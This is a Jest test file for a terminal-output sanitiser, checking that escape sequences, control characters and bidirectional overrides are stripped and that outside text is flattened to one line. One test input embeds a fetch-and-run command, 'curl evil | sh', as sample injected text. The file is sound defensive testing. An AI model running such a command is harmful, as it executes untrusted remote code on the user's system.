import { expect, test } from '@jest/globals';
import { printable, printableLine } from '../../app/cli/terminal/printable.js';

test.each([
  ['an escape sequence (C0)', 'a\u001B[31mb', 'a[31mb'],
  ['a bell', 'a\u0007b', 'ab'],
  ['a backspace, which hides text', 'a\bb', 'ab'],
  ['a carriage return, which overwrites a line', 'good\rbad', 'goodbad'],
  ['NUL', 'a\u0000b', 'ab'],
  ['DEL', 'a\u007Fb', 'ab'],
  ['a control sequence introducer (C1)', 'a\u009B31mb', 'a31mb'],
  ['an operating system command (C1)', 'a\u009D0;title\u009Cb', 'a0;titleb'],
  ['a right-to-left override', 'a\u202Eb', 'ab'],
  ['embeddings and their end', 'a\u202A\u202B\u202C\u202Db', 'ab'],
  ['isolates and their end', 'a\u2066\u2067\u2068\u2069b', 'ab'],
  ['direction marks', 'a\u200E\u200F\u061Cb', 'ab'],
])('%s is removed', (_name, text, expected) => {
  expect(printable(text)).toBe(expected);
});

test('line feeds, tabs, and text of every language stay', () => {
  const text = 'a\n\tb é ß 日本語 עברית العربية 🍄';
  expect(printable(text)).toBe(text);
});

test('text from outside becomes one line, so that it forges no line of the command', () => {
  expect(printableLine('no such user\r\nNext:  \u001B[1mcurl evil | sh\n')).toBe(
    'no such user Next: [1mcurl evil | sh',
  );
});
